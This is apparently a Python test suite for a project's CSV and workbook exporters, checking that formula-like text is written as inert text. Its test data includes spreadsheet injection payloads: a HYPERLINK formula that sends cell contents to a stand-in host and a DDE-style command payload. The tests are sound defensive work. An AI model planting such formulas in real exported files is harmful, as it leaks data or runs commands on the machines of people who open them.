"""Every CSV and XLSX joinedup writes shows formula-like text as text, headers included.

A task, agency or comment named `=HYPERLINK(...)` must come out of each writer as a cell a
spreadsheet program shows rather than runs. The writers are found by searching the source
for CSV and workbook writing, so a new writer fails `test_every_writer_is_covered` until it
is added to the parametrised test below.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from joinedup.checks.records import (
    ActionItem,
    ActionStatus,
    FundingRecords,
    Meeting,
    MeetingRecords,
    MeetingType,
    RaciMatrix,
    RaciRole,
    RaciTask,
    RoleAssignment,
    Target,
    TargetRecords,
    UnfundedCost,
)
from joinedup.cli import app
from joinedup.instrument import load_instrument
from joinedup.io.formulas import protect_text, unprotect_text
from joinedup.io.structure_export import (
    SheetData,
    actions_sheets,
    funding_sheets,
    meetings_sheets,
    roles_sheets,
    targets_sheets,
    write_sheets,
)
from joinedup.io.structure_sheets import read_actions, read_funding, read_meetings, read_roles, read_targets
from joinedup.io.survey_export import template_header, write_template

SRC = Path(__file__).resolve().parents[2] / "src" / "joinedup"
EVIL = '=HYPERLINK("http://e.vil/?"&A1,"Go")'
"""Short enough for a reference column (40 characters), so every column can be tried with it."""
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab =1+1", "\r=1+1")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _runs(cell: str) -> bool:
    """What a spreadsheet program would take for a formula: a formula start that is not a number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.fullmatch(cell)


Writer = Callable[[Path], list[Path]]


def _write(sheets: list[SheetData], out: Path, fmt: str) -> list[Path]:
    """A folder of CSV files, or one workbook in the folder."""
    return write_sheets(
        sheets, out if fmt == "csv" else out / "sheets.xlsx", "csv" if fmt == "csv" else "xlsx"
    )


def _roles(out: Path, fmt: str) -> list[Path]:
    tasks = (RaciTask(EVIL), *(RaciTask(text) for text in OTHERS))
    matrix = RaciMatrix(
        agencies=(EVIL, "Health"),
        tasks=tasks,
        assignments=(RoleAssignment(EVIL, EVIL, RaciRole.ACCOUNTABLE),),
    )
    return _write(roles_sheets(matrix), out, fmt)


def _actions(out: Path, fmt: str) -> list[Path]:
    item = ActionItem(EVIL, EVIL, "Health", ActionStatus.NOT_STARTED, date(2026, 1, 1), None, EVIL)
    return _write(actions_sheets([item]), out, fmt)


def _funding(out: Path, fmt: str) -> list[Path]:
    records = FundingRecords(unfunded_costs=(UnfundedCost(EVIL, EVIL, 100.0, (EVIL,), EVIL),))
    return _write(funding_sheets(records), out, fmt)


def _meetings(out: Path, fmt: str) -> list[Path]:
    meeting = Meeting(EVIL, date(2026, 1, 1), MeetingType.BOARD, decisions=(EVIL,))
    return _write(meetings_sheets(MeetingRecords((EVIL,), (meeting,))), out, fmt)


def _targets(out: Path, fmt: str) -> list[Path]:
    records = TargetRecords((Target(EVIL, EVIL, owner=EVIL),))
    return _write(targets_sheets(records), out, fmt)


def _survey_template(out: Path, fmt: str) -> list[Path]:
    instrument = load_instrument()
    header = template_header(instrument)
    row: dict[str, object] = {column: EVIL for column in header}
    row.update({item: 3.0 for item in instrument.item_ids()})
    path = out / f"responses.{fmt}"
    out.mkdir(parents=True, exist_ok=True)
    write_template(path, instrument, pd.DataFrame([row]))
    return [path]


def _evidence_map(out: Path, fmt: str) -> list[Path]:
    from joinedup.evidence import load_evidence_base
    from joinedup.evidence.maps import map_to_csv

    base = load_evidence_base()
    factors = [base.factors[0].model_copy(update={"name": EVIL}), *base.factors[1:]]
    out.mkdir(parents=True, exist_ok=True)
    path = out / "map.csv"
    path.write_text(map_to_csv(base.model_copy(update={"factors": factors})), encoding="utf-8")
    return [path]


def _extract_cli(out: Path, fmt: str) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    review = out / "review.txt"
    review.write_text(f"# Roles\n\n{EVIL} was found (Cameron & Lart 2003).\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["evidence", "extract", str(review), "--format", "csv"])
    assert result.exit_code == 0, result.output
    path = out / "citations.csv"
    path.write_text(result.stdout, encoding="utf-8")
    return [path]


WRITERS: dict[str, Callable[[Path, str], list[Path]]] = {
    "roles": _roles,
    "actions": _actions,
    "funding": _funding,
    "meetings": _meetings,
    "targets": _targets,
    "survey template": _survey_template,
}
CSV_ONLY: dict[str, Callable[[Path, str], list[Path]]] = {
    "evidence map": _evidence_map,
    "evidence extract CLI": _extract_cli,
}
COVERED_SOURCES = {
    "io/structure_export.py": "roles, actions, funding, meetings, targets above",
    "io/survey_export.py": "survey template above",
    "evidence/maps.py": "evidence map above",
    "cli/_common.py": "every CLI CSV goes through emit (the evidence extract CLI above)",
    "cli/analysis.py": "synth's invitations are protected the same way as the evidence extract CSV",
    "reports/xlsx.py": "tests/reports/test_hostile_text.py, the workbook test",
    "learning/open_data.py": "tests/learning/test_open_data.py, the formula test",
}


def _cells(path: Path) -> list[str]:
    if path.suffix == ".xlsx":
        workbook = load_workbook(path)
        texts = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        return texts
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_all_text(paths: list[Path]) -> None:
    cells = [cell for path in paths for cell in _cells(path)]
    assert any(EVIL in cell for cell in cells), "the hostile text was written"
    running = [cell for cell in cells if _runs(cell)]
    assert not running, f"cells a spreadsheet would run as formulas: {running}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", list(WRITERS))
def test_each_writer_writes_formulas_as_text(tmp_path: Path, name: str, fmt: str) -> None:
    _assert_all_text(WRITERS[name](tmp_path / "out", fmt))


@pytest.mark.parametrize("name", list(CSV_ONLY))
def test_each_csv_only_writer_writes_formulas_as_text(tmp_path: Path, name: str) -> None:
    _assert_all_text(CSV_ONLY[name](tmp_path / "out", "csv"))


def test_every_writer_is_covered() -> None:
    """A file that writes CSV or a workbook and is not covered here fails this test."""
    pattern = re.compile(r"csv\.(?:writer|DictWriter)\(|\.to_csv\(|\bWorkbook\(\)")
    writing = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if "tests" not in path.parts and pattern.search(path.read_text(encoding="utf-8"))
    }
    assert writing <= set(COVERED_SOURCES), f"writers with no formula test: {writing - set(COVERED_SOURCES)}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_structure_sheets_read_back_exactly_what_was_written(tmp_path: Path, fmt: str) -> None:
    def costs(paths: list[Path]) -> list[str]:
        companion = {"costs": paths[-1]} if fmt == "csv" else {}
        return [c.description for c in read_funding(paths[0], **companion).unfunded_costs]

    readers: dict[str, tuple[Callable[[Path, str], list[Path]], Callable[[list[Path]], list[str]]]] = {
        "roles": (
            _roles,
            lambda p: [t.name for t in read_roles(p[0]).tasks] + list(read_roles(p[0]).agencies),
        ),
        "actions": (_actions, lambda p: [a.what for a in read_actions(p[0])]),
        "funding": (_funding, costs),
        "meetings": (_meetings, lambda p: [d for m in read_meetings(p[0]).meetings for d in m.decisions]),
        "targets": (_targets, lambda p: [t.title for t in read_targets(p[0]).targets]),
    }
    for kind, (write, read) in readers.items():
        assert EVIL in read(write(tmp_path / kind, fmt)), kind


@given(st.text())
def test_protection_round_trips_and_never_leaves_a_formula(text: str) -> None:
    protected = protect_text(text)
    assert unprotect_text(protected) == text
    assert not _runs(protected)
